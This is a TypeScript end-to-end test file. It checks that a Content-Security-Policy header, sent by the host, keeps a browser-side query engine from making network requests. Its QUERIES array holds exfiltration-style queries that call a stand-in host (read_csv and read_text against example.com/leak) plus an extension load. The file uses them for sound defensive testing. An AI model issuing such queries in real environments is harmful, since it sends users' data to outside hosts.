import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { build } from "vite";
import { afterAll, beforeAll, expect, test } from "vitest";
import { stage } from "./page.ts";

const dir = mkdtempSync(join(tmpdir(), "contraflow-policy-"));

/** A page whose engine has neither guard nor lock, without a policy of its own: what holds it is the header, where the host sends it. */
beforeAll(async () => {
  await build({ root: "tests/e2e/policy", configFile: "vite.config.ts", logLevel: "error", build: { outDir: dir, emptyOutDir: true } });
  const page = join(dir, "index.html");
  writeFileSync(page, readFileSync(page, "utf8").replace(/<meta http-equiv[^>]*>/, ""));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const QUERIES = ["FROM read_csv('http://example.com/leak?d=' || 'abc')", "FROM read_text('https://example.com/leak')", "LOAD icu"];

async function leaks(host: "plain" | "start"): Promise<string[]> {
  const built = await stage(host, dir);
  try {
    const { page } = await built.open("");
    await page.waitForFunction(() => "ask" in window, undefined, { timeout: 60_000 });
    for (const query of QUERIES) await page.evaluate((query) => (window as unknown as { ask(query: string): Promise<string> }).ask(query), query);
    return built.recorder.foreign();
  } finally {
    await built.close();
  }
}

test("without guard, lock and policy a query does reach the network: the next test can fail", async () => {
  expect((await leaks("plain")).join()).toContain("example.com");
});

test("the policy alone, as a header, keeps every query from the network", async () => {
  expect(await leaks("start")).toEqual([]);
});
